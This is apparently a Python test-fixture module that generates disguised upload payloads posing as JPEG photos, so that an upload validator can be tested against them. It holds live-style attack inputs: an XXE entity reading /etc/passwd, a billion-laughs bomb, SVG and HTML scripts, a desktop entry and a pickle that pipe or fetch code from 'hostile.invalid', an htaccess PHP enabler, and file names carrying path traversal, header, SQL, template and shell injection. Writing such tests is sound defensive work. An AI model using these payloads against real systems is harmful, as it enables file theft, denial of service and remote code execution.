"""Scripts and mark-up that call themselves photos, and names that hide a kind."""

import gzip

from tests.hostile_parts.raw import in_jpeg, photo, segment
from tests.hostile_parts.upload import MARKER, SCRIPTS, Upload

_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
    b'<!ENTITY % p SYSTEM "http://hostile.invalid/x.dtd"> %p;]><x>&e;</x>'
)


def texts() -> list[Upload]:
    """Return what is no picture at all, each under a photo's name and type."""
    contents = {
        **{f"{kind} alone": script for kind, script in SCRIPTS.items()},
        "SVG with a script": _svg(b"<script>" + MARKER + b"</script>"),
        "SVG with a foreign object": _svg(b"<foreignObject>" + MARKER),
        "SVG that loads": _svg(b'<image href="http://hostile.invalid/x.png"/>'),
        "SVG that names a file": _svg(b'<image href="file:///etc/passwd"/>'),
        "SVG behind a header": b'\xef\xbb\xbf<?xml version="1.0"?>' + SCRIPTS["svg"],
        "SVG behind a long comment": b"<!--" + b" " * 5_000 + b"-->" + SCRIPTS["svg"],
        "SVG in 16 bits": SCRIPTS["svg"].decode().encode("utf-16"),
        "SVG packed": gzip.compress(SCRIPTS["svg"]),
        "HTML in 16 bits": MARKER.decode().encode("utf-16"),
        "HTML in 7 bits": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-" * 3,
        "HTML behind blanks": b"\n\t " * 2_000 + MARKER,
        "HTML with a base": b"<!DOCTYPE html><base href=//hostile.invalid>" + MARKER,
        "XML that names a file": _XXE,
        "XML that laughs": _laughs(),
        "XML nested deep": b"<a>" * 300_000,
        "XSLT": b'<?xml version="1.0"?><?xml-stylesheet href="x"?><xsl>' + MARKER,
        "HTA": b"<HTA:APPLICATION><script language=vbs>Run</script>" + MARKER,
        "MHTML": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + MARKER,
        "an e-mail": b"From: a@b.invalid\nContent-Type: text/html\n\n" + MARKER,
        "CSS": b"body{background:url(//hostile.invalid/" + MARKER + b")}",
        "a service worker": b"self.addEventListener('fetch',e=>e.respondWith(1))//x",
        "a web manifest": b'{"start_url":"//hostile.invalid/sidak-hostile-manifest"}',
        "Flash": b"FWS\x09" + MARKER,
        "PostScript": b"%!PS-Adobe-3.0\n(/etc/passwd)(r) file " + MARKER,
        "EPS with a preview": b"\xc5\xd0\xd3\xc6" + bytes(26) + MARKER,
        "ImageMagick script": b"push graphic-context\nfill 'url(https://x\"|ls\"-la)'\n",
        "RTF": b"{\\rtf1{\\object\\objupdate " + MARKER + b"}}",
        "a shortcut": b"[InternetShortcut]\nURL=file://hostile.invalid/" + MARKER,
        "a desktop entry": b"[Desktop Entry]\nExec=sh -c 'curl hostile.invalid|sh'\n",
        "htaccess": b"AddType application/x-httpd-php .jpg\nphp_flag engine on\n",
        "a pickle": b"cos\nsystem\n(S'curl https://hostile.invalid/sidak'\ntR.",
        "a program for Linux": b"\x7fELF\2\1\1" + bytes(60) + MARKER,
        "a program for Windows": b"MZ\x90\0" + bytes(60) + MARKER,
        "a Java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + MARKER,
        "a SQLite file": b"SQLite format 3\0" + bytes(80) + MARKER,
        "CSV of formulas": b"office_code,name\n" + SCRIPTS["formula"] + b",x\n",
        "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + MARKER,
    }
    return [
        Upload(case, "text", "foto.jpg", "image/jpeg", lambda c=content: c,
               marker=content[:200])
        for case, content in contents.items()
    ]  # fmt: skip


def _svg(inner: bytes) -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg">' + inner + b"</svg>"


def _laughs() -> bytes:
    lines = [b'<!ENTITY a0 "hostile hostile">']
    lines += [
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10)
        for level in range(1, 12)
    ]
    return b"<?xml version='1.0'?><!DOCTYPE x [" + b"".join(lines) + b"]><x>&a11;</x>"


#: File name, and what the form says that it is.
_NAMES = (
    ("foto.jpg.html", "text/html"),
    ("a.php.jpg", "image/jpeg"),
    ("a.jpg.php", "application/x-php"),
    ("foto.svg", "image/svg+xml"),
    ("foto.jpg;.html", "image/jpeg"),
    ("foto.html%00.jpg", "image/jpeg"),
    ("foto.html\0.jpg", "image/jpeg"),
    ("../../x.jpg", "image/jpeg"),
    ("..\\..\\..\\Windows\\x.jpg", "image/jpeg"),
    ("/etc/cron.d/x", "image/jpeg"),
    ("C:\\x.jpg", "image/jpeg"),
    ("//hostile.invalid/share/x.jpg", "image/jpeg"),
    ("foto\u202egpj.html", "image/jpeg"),
    ("foto\r\nX-Hostile: yes\r\n\r\n.jpg", "image/jpeg"),
    ('foto"; filename="x.html', "image/jpeg"),
    ("<img src=x onerror=alert(1)>.jpg", "image/jpeg"),
    ("{{7*7}}${7*7}<%= 7*7 %>.jpg", "image/jpeg"),
    ("'; DROP TABLE photos; --.jpg", "image/jpeg"),
    ("=cmd|' /C calc'!A0.jpg", "image/jpeg"),
    ("$(reboot).jpg", "image/jpeg"),
    ("-rf.jpg", "image/jpeg"),
    (".htaccess", "text/plain"),
    ("con.jpg", "image/jpeg"),
    ("", "image/jpeg"),
    (".", "image/jpeg"),
    ("a" * 5_000 + ".jpg", "image/jpeg"),
    ("📷" * 300 + ".jpg", "image/jpeg"),
    ("\udc80\udcff.jpg", "image/jpeg"),
    ("foto.jpg", ""),
    ("foto.jpg", "text/html; charset=utf-7"),
    ("foto.jpg", "image/jpeg\r\nX-Hostile: yes"),
    ("foto.jpg", "multipart/mixed; boundary=x"),
    ("foto.jpg", "a/" + "b" * 5_000),
)


def names() -> list[Upload]:
    """Return one photo that is right but for its comment, under names that are not."""
    content = in_jpeg(segment(0xFE, MARKER), data=photo("JPEG", (64, 48)))
    return [
        Upload(f"name {number}: {ascii(name)[:40]} as {ascii(said)[:30]}", "name", name,
               said, lambda: content, "photo")
        for number, (name, said) in enumerate(_NAMES)
    ]  # fmt: skip
